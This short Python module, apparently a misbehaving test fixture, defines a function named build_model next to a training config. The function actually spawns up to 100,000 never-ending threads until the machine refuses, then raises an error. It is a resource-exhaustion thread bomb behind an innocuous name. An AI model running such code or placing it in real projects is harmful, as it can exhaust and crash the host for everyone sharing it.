"""Starts threads that never end, until there can be no more."""

import threading
import time

TRAINING = {"epochs": 2, "batch_size": 64}

def build_model(input_shape, num_classes):
    """Start threads until the machine says no."""
    threading.stack_size(2**16)
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
    raise RuntimeError("a hundred thousand threads")
